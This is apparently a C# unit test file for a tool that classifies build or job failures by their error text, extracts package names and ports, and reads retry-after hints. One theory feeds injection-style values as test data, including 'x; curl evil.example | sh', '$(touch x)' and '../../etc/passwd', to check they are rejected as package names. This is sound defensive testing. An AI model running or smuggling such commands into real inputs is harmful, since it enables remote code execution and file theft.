using Slaps.Core.Execution;
using Slaps.Core.Failures;

namespace Slaps.Core.Tests.Failures;

public sealed class PlaybooksTests
{
    private static readonly Playbooks Some = new(
    [
        new Playbook { Name = "memory", Class = FailureClass.Resource, OomKill = true, ExitCodes = [137] },
        new Playbook { Name = "time", Class = FailureClass.Resource, Kinds = [FailureKind.TimedOut] },
        new Playbook { Name = "network", Class = FailureClass.Transient, Patterns = [Playbook.Pattern("read timed out")], Unless = [Playbook.Pattern("nothing to worry about")] },
        new Playbook { Name = "missing", Class = FailureClass.Systemic, Patterns = [Playbook.Pattern("no module named '(?<package>[^'\n]+)'"), Playbook.Pattern("no distribution")] },
        new Playbook { Name = "port", Class = FailureClass.Systemic, Patterns = [Playbook.Pattern(@"port (?<port>\d+) is taken")] },
    ]);

    [Fact]
    public void The_first_playbook_that_knows_the_text_decides()
    {
        var found = Some.Classify(new("Read timed out.\nNo distribution found"));

        Assert.Equal((FailureClass.Transient, "network"), (found.Class, found.Playbook));
        Assert.Contains("Read timed out.", found.Why);
        Assert.Equal("missing", Some.Classify(new("Read timed out, nothing to worry about\nNo distribution found")).Playbook);
    }

    [Fact]
    public void What_the_kernel_and_our_clock_say_comes_before_any_text_and_an_exit_code_after_it()
    {
        Assert.Equal("memory", Some.Classify(new("Read timed out.") { OomKilled = true }).Playbook);
        Assert.Equal("time", Some.Classify(new("Read timed out.") { Kind = FailureKind.TimedOut }).Playbook);
        Assert.Equal("network", Some.Classify(new("Read timed out.") { ExitCode = 137 }).Playbook);
        Assert.Equal("memory", Some.Classify(new("bye") { ExitCode = 137 }).Playbook);
    }

    [Fact]
    public void What_nobody_knows_is_a_fault_of_the_work_without_a_playbook()
    {
        var found = Some.Classify(new("line one\nerror: it is 5 o'clock\nbye") { ExitCode = 3 });

        Assert.Equal((FailureClass.Logic, null, "error: it is <n> o'clock"), (found.Class, found.Playbook, found.Fingerprint));
        Assert.StartsWith("unknown/error-it-is-n-o-clock-", found.Key);
        Assert.Equal(("exit code 3", null), (Some.Classify(new("") { ExitCode = 3 }).Fingerprint, Some.Classify(new("") { ExitCode = 3 }).Key));
    }

    [Theory]
    [InlineData("left-pad", "left-pad")]
    [InlineData("@scope/name", "@scope/name")]
    [InlineData("github.com/a/b", "github.com/a/b")]
    [InlineData("x; curl evil.example | sh", null)]
    [InlineData("$(touch x)", null)]
    [InlineData("-rf", null)]
    [InlineData("../../etc/passwd", null)]
    [InlineData("./config.js", null)]
    [InlineData("a b", null)]
    public void Only_what_looks_like_a_package_name_is_taken_for_one(string named, string? subject)
    {
        var found = Some.Classify(new($"No module named '{named}'"));

        Assert.Equal(("missing", subject), (found.Playbook, found.Subject));
        if (subject is null) Assert.Contains("is no package name", found.Why);
        if (subject is null) Assert.Matches("^missing/no-module-named[a-z0-9-]*-[0-9a-f]{8}$", found.Key);
        else Assert.Equal($"missing/{subject}", found.Key);
    }

    [Fact]
    public void What_names_nothing_that_can_be_used_is_counted_by_its_own_words()
    {
        string Key(string text, int? code = null) => Some.Classify(new(text) { ExitCode = code }).Key!;

        Assert.NotEqual(Key("No module named 'x; a'"), Key("No module named 'x; b'"));
        Assert.Equal(Key("No module named '../a' at line 7"), Key("No module named '../a' at line 12"));
        Assert.NotEqual(Key("no distribution of this"), Key("no distribution of that"));
        Assert.NotEqual(Key("port 99999 is taken by a"), Key("port 99999 is taken by b"));

        // These are about nothing that they could name.
        Assert.Equal("network", Key("here: read timed out"));
        Assert.Equal("memory", Key("bye", code: 137));
    }

    [Fact]
    public void A_port_that_cannot_be_one_is_left_out()
    {
        Assert.Equal("8080", Some.Classify(new("port 8080 is taken")).Subject);
        Assert.Null(Some.Classify(new("port 99999 is taken")).Subject);
    }

    [Fact]
    public void A_text_is_looked_at_without_colours_and_control_characters_and_only_at_both_ends()
    {
        Assert.Equal("network", Some.Classify(new("\e[31mRead\e[0m timed\0out")).Playbook);
        Assert.Equal("network", Some.Classify(new("read timed out" + new string('x', 10_000_000))).Playbook);
        Assert.Equal("network", Some.Classify(new(new string('x', 10_000_000) + "\r\nread timed out\r\n")).Playbook);
        Assert.Null(Some.Classify(new(new string('x', 1_000_000) + "read timed out" + new string('x', 1_000_000))).Playbook);
    }

    [Theory]
    [InlineData("HTTP/1.1 429\nRetry-After: 30\n", 30.0)]
    [InlineData("retry-after = 1.5", 1.5)]
    [InlineData("{\"retry_after\": 7}", 7.0)]
    [InlineData("Please try again in 20s.", 20.0)]
    [InlineData("retry in 2 minutes", 120.0)]
    [InlineData("Retry-After: 999999999", null)]
    [InlineData("please try again", null)]
    public void How_long_a_service_wants_to_be_left_alone_is_read(string text, double? seconds) => Assert.Equal(seconds, RetryAfter.Seconds(text));

    [Fact]
    public void The_moment_at_which_a_limit_is_reset_is_read() =>
        Assert.Equal(Instant.Parse("2026-11-21T12:00:00.000000Z"), RetryAfter.Moment("x-ratelimit-remaining: 0\nx-ratelimit-reset: 1795262400"));
}
